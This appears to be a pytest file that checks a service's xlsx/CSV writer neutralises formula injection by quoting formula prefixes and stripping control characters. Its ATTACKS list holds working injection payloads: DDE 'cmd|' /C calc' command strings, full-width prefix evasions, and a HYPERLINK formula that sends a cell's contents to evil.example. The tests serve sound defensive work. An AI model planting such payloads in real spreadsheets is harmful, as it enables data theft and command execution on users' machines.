"""Every xlsx/CSV the service writes stores user text as text: formulas quoted, control characters removed."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from openpyxl import Workbook, load_workbook

from app.imports import header_labels
from app.sheets import FORMULA_PREFIXES, append_row, csv_bytes, safe_text, safe_value

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&B2,"点击查看详情")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
    " =1+1",
    "\u3000=1+1",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_a_formula_prefix_is_quoted(text: str) -> None:
    assert safe_text(text) == "'" + text


def test_every_documented_prefix_is_covered() -> None:
    for prefix in FORMULA_PREFIXES:
        assert safe_text(prefix + "1") == "'" + prefix + "1"


def test_plain_text_numbers_and_dates_are_unchanged() -> None:
    assert safe_text("高原青稞精深加工") == "高原青稞精深加工"
    assert safe_text("A=B") == "A=B"
    for value in (None, 0, -5, 12.5, True, date(2026, 7, 1)):
        assert safe_value(value) == value
        assert type(safe_value(value)) is type(value)


def test_control_characters_are_removed_and_the_formula_behind_them_still_quoted() -> None:
    assert safe_text("青稞\x01饮品\x1f") == "青稞饮品"
    assert safe_text("\x01=1+1") == "'=1+1"
    assert safe_text("换行\n和制表\t保留") == "换行\n和制表\t保留"


def test_append_row_writes_strings_never_formulas_or_error_codes() -> None:
    wb = Workbook()
    ws = wb.active
    append_row(ws, ["=1+1", "#N/A", "名称\x02", 42, -3.5, None, date(2026, 7, 1)])
    buf = io.BytesIO()
    wb.save(buf)  # would raise IllegalCharacterError had the control character stayed
    cells = list(load_workbook(io.BytesIO(buf.getvalue())).active[1])
    assert [c.value for c in cells[:5]] == ["'=1+1", "#N/A", "名称", 42, -3.5]
    assert [c.data_type for c in cells[:5]] == ["s", "s", "s", "n", "n"]
    assert cells[5].value is None
    assert cells[6].value.date() == date(2026, 7, 1)


def test_csv_bytes_quotes_text_and_keeps_numbers() -> None:
    body = csv_bytes([["名称", "金额"], ["=cmd|' /C calc'!A0", 800], ["a,=1+1", -1]])
    assert body.startswith(b"\xef\xbb\xbf")
    text = body.decode("utf-8-sig")
    assert "\"'=cmd|' /C calc'!A0\",800" in text
    assert list(csv.reader(io.StringIO(text))) == [
        ["名称", "金额"],
        ["'=cmd|' /C calc'!A0", "800"],
        ["a,=1+1", "-1"],
    ]


@pytest.fixture()
def _admin(auth) -> None:  # type: ignore[no-untyped-def]
    auth.login("admin")


@pytest.mark.usefixtures("_admin")
def test_templates_go_through_the_safe_writer(client, monkeypatch) -> None:  # type: ignore[no-untyped-def]
    r = client.get("/imports/template.xlsx?kind=projects")
    cells = list(load_workbook(io.BytesIO(r.data)).active[1])
    assert [c.value for c in cells] == header_labels("projects")
    assert {c.data_type for c in cells} == {"s"}

    # a header that looked like a formula would be written quoted, in both formats
    monkeypatch.setattr("app.imports.header_labels", lambda kind: ["=SUM(1)", "名称"])
    r = client.get("/imports/template.xlsx?kind=projects")
    cell = load_workbook(io.BytesIO(r.data)).active["A1"]
    assert (cell.value, cell.data_type) == ("'=SUM(1)", "s")
    r = client.get("/imports/template.csv?kind=projects")
    assert next(csv.reader(io.StringIO(r.data.decode("utf-8-sig")))) == ["'=SUM(1)", "名称"]
